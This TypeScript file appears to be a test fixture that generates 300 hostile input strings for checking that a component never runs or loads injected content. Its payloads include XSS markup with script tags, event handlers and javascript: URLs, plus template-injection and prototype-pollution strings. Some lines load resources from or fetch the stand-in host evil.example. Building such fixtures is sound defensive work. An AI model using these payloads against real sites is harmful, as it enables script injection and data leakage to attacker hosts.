// 300 hostile strings: markup that would run code or load something, style that would, addresses, templates,
// prototypes, and text that would break a layout.

/** The code that each string tries to run; it must never run. */
const CODES = ['window.pwned=1', 'alert(1)', "fetch('https://evil.example/')"];

const around = (code: string): readonly string[] => [
  `<script>${code}</script>`,
  `<img src=x onerror="${code}">`,
  `<svg onload="${code}">`,
  `"><img src=x onerror=${code}>`,
  `'><svg/onload=${code}>`,
  `\`><body onpageshow=${code}>`,
  `javascript:${code}`,
  `java\tscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `</style><script>${code}</script>`,
  `</textarea></title><script>${code}</script>`,
  `<!--><script>${code}</script>-->`,
  `]]><script>${code}</script>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<template><script>${code}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<details open ontoggle="${code}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${code}">`,
  `<video src=x onerror="${code}"></video>`,
  `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${code}">`,
  `\${${code}}`,
  `{{constructor.constructor("${code}")()}}`,
  `"onmouseover="${code}" x="`,
  `' autofocus onfocus='${code}' x='`,
  `expression(${code})`,
  `");${code}//`,
  `';${code};'`,
  `<object data="javascript:${code}"></object>`,
];

const LOADING = [
  "url('https://evil.example/x')",
  'red;background:url(https://evil.example/x)',
  "@import 'https://evil.example/x.css'",
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button autofocus>x</button></form>',
  '<img src=https://evil.example/x>',
  '//evil.example/x',
  'https://evil.example/x',
];

const ODD = [
  '{"__proto__":{"pwned":1}}',
  '(__proto__:(pwned:1))',
  '{"constructor":{"prototype":{"pwned":1}}}',
  '__proto__',
  'constructor',
  'toString',
  '<!--?lit$0$-->',
  '<?lit$000000000$>',
  'lit$000000000$0',
  '\u0024{0}',
  'W'.repeat(5000),
  '\u202e\u2066gnirts\u2069 evil',
  'Z\u0351\u036b\u0343\u036a\u0302'.repeat(100),
  '\0\u0001\u001b[31m\u007f',
  '\ud800\udfff\ud83d',
  'line\r\nbreak\u2028and\u2029more',
  '👩‍👩‍👧‍👦'.repeat(200),
  '\u200b'.repeat(3000),
  'ﷺ'.repeat(300),
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
];

const encoded = (text: string) => encodeURIComponent(text);
const entities = (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
const shouted = (text: string) => text.replace(/<\/?\w+/g, (tag) => tag.toUpperCase());
const plain = CODES.flatMap(around);

export const HOSTILE: readonly string[] = [
  ...new Set([...ODD, ...LOADING, ...plain, ...plain.map(shouted), ...plain.map(entities), ...plain.map(encoded)]),
].slice(0, 300);
